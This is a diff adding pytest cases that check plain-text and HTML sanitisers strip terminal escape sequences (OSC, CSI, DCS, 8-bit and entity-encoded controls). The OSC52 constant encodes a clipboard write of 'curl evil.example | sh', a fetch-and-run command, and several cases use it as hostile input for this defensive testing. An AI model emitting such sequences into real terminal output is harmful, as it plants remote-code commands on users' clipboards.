@@ -33,3 +33,28 @@ def test_redirector_links_are_unwrapped():
         == "https://paper.example.org/a"
     assert unwrap_redirect("https://www.google.com/url?url=javascript:alert(1)") \
         == "https://www.google.com/url?url=javascript:alert(1)"
+
+
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # writes "curl evil.example | sh" to the clipboard
+
+
+@pytest.mark.parametrize("dirty, clean", [
+    (f"Rates rise{OSC52}", "Rates rise"),
+    ("Rates \x1b]52;c;SGk=\x1b\\rise", "Rates rise"),                 # OSC ended by ST
+    ("\x9d52;c;SGk=\x9cRates rise", "Rates rise"),                     # 8-bit OSC and ST
+    ("\x1b[31mRates\x1b[0m rise", "Rates rise"),                       # CSI colours
+    ("\x9b2JRates rise", "Rates rise"),                                # 8-bit CSI: clear screen
+    ("Rates\x1bP+q544e\x1b\\ rise", "Rates rise"),                     # DCS (a terminfo query)
+    ("Rates\x1b(0 rise\x1bc", "Rates rise"),                           # charset switch, reset
+    ("Rates &#27;[2J&#x1b;]0;title&#7;rise", "Rates rise"),            # as entities
+    ("Rates &amp;#27;[2Jrise", "Rates [2Jrise"),                       # double-escaped: ESC gone
+    ("Rates\x00\x08\x7f\x85 rise\rfaked", "Rates rise faked"),         # NUL, BS, DEL, NEL, CR
+    ("Rates \x1b]0;never ended rise", "Rates 0;never ended rise"),      # unterminated: introducer gone
+])
+def test_plain_text_has_no_terminal_controls(dirty, clean):
+    assert plain_text(dirty) == clean
+
+
+def test_sanitised_html_has_no_terminal_controls_and_keeps_its_markup():
+    dirty = f"<p>Rates{OSC52} <b>rise&#27;[2J</b></p><p>again\x9b2J</p>"
+    assert sanitise_html(dirty) == "<p>Rates <b>rise[2J</b></p><p>again</p>"
